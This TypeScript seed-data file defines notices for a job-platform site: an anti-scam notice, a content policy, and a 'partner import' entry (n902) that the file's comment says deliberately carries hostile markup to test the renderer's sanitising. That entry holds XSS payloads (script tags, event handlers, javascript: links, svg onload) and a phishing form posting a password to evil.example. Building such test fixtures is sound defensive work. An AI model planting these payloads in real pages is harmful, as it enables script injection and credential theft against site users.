import type { DocSeed } from '../types.ts';

/**
 * Notices and agreements: rendered by /richtext like articles, not listed on /workplace. n902 is an import from a
 * partner's feed that carries hostile markup (scripts, handlers, javascript: links, a 3,000-px table): the
 * renderer must show it harmlessly (tests/e2e/content.spec.ts).
 */
const WIDE_COLUMNS = Array.from({ length: 24 }, (_, i) => `<th style="min-width:125px">展位${i + 1}</th>`).join('');
const WIDE_CELLS = Array.from({ length: 24 }, (_, i) => `<td>企业${String.fromCharCode(65 + (i % 26))}${i + 1}</td>`).join('');

export const HOSTILE_DOC_ID = 'n902';

export const noticeDocs: DocSeed[] = [
  {
    id: 'n901',
    kind: 'notice',
    category: 'scam',
    title: '聚才关于防范冒充平台工作人员诈骗的公告',
    titleEn: 'JuCai notice: beware of people posing as platform staff',
    summary: '聚才工作人员不会以任何理由要求用户转账、提供验证码或共享屏幕。',
    summaryEn: 'JuCai staff never ask users to transfer money, share an SMS code or share their screen, for any reason.',
    publishedAt: '2026-11-02',
    source: '聚才平台运营中心',
    baseViews: 6420,
    html: `<h2>近期情况</h2><p>近期有不法分子冒充“聚才客服”“聚才审核专员”，以“账号异常”“简历违规需缴纳保证金”等理由联系用户。</p>
<h2>聚才的承诺</h2><ul><li>不会要求用户向个人账户转账；</li><li>不会索要短信验证码、支付密码；</li><li>不会要求下载第三方App或共享屏幕。</li></ul>
<h2>核实渠道</h2><p>客服电话 400-820-2026，举报邮箱 jubao@jucai.example。也可以在“联系我们”页面留言，我们会给出工单号。</p>`,
  },
  {
    id: HOSTILE_DOC_ID,
    kind: 'notice',
    category: 'guide',
    title: '2026年冬季线上招聘会展位安排（合作方导入）',
    titleEn: 'Winter 2026 online job fair: booth plan (imported from a partner)',
    summary: '合作方提供的展位表，原文格式保留；报名请以主办方公告为准。',
    summaryEn: 'The booth plan as supplied by the partner; register through the organiser’s notice.',
    publishedAt: '2026-11-10',
    source: '合作方“杭州市人才市场”来稿，聚才编辑部转载',
    baseViews: 1204,
    attachments: [{ name: '2026年第三季度薪资数据.csv', file: 'salary-2026q3.csv' }],
    html: `<h2 onclick="window.__xss=(window.__xss||0)+1">招聘会概况</h2>
<p onmouseover="window.__xss=(window.__xss||0)+1">本次招聘会于 12 月 6 日在线举办，共设 24 个展位。<script>window.__xss=(window.__xss||0)+1</script></p>
<p><img src="/user/content/figures/fair-banner.svg" width="960" height="240" alt="冬季线上招聘会横幅"><img src="x" onerror="window.__xss=(window.__xss||0)+1"></p>
<p><a href="javascript:window.__xss=(window.__xss||0)+1">点击报名</a> · <a href="JaVaScRiPt:alert(1)">备用入口</a> · <a href="//evil.example/phish">镜像站</a> · <a href="https://www.hangzhou.gov.cn/">主办方网站</a></p>
<svg onload="window.__xss=(window.__xss||0)+1"><circle r="10"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/collect"><input name="pwd" placeholder="输入密码领取门票"></form>
<h2 id="__proto__" style="position:fixed;top:0">展位表</h2>
<table style="width:3000px" onmouseenter="window.__xss=(window.__xss||0)+1"><thead><tr>${WIDE_COLUMNS}</tr></thead><tbody><tr>${WIDE_CELLS}</tr></tbody></table>
<h3>参会须知</h3><p>招聘会不收取任何费用。<style>body{display:none}</style></p>
<object data="x.swf"></object><math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
  },
  {
    id: 'g901',
    kind: 'agreement',
    category: 'policy',
    title: '聚才内容发布与转载规则',
    titleEn: 'JuCai rules for publishing and republishing content',
    summary: '本站文章的来源标注、转载授权、更正与投诉规则。',
    summaryEn: 'How articles on this site cite sources, how republishing is licensed, and how corrections and complaints are handled.',
    publishedAt: '2026-01-01',
    source: '《网络信息内容生态治理规定》；《中华人民共和国著作权法》第二十四条',
    baseViews: 2150,
    html: `<h2>第一条 来源标注</h2><p>本站原创文章在文末注明所依据的法律法规或数据来源；转载文章注明原作者和出处。</p>
<h2>第二条 准确性</h2><p>涉及法律法规的内容以现行有效文本为准；各地执行标准不同的，文中提示以当地规定为准。</p>
<h2>第三条 更正</h2><p>发现内容有误，可通过“联系我们”留言，选择“意见建议”，我们将在 5 个工作日内核实并回复工单。</p>
<h2>第四条 转载</h2><p>转载本站原创文章须取得书面授权并注明来源“聚才”。</p>`,
  },
];
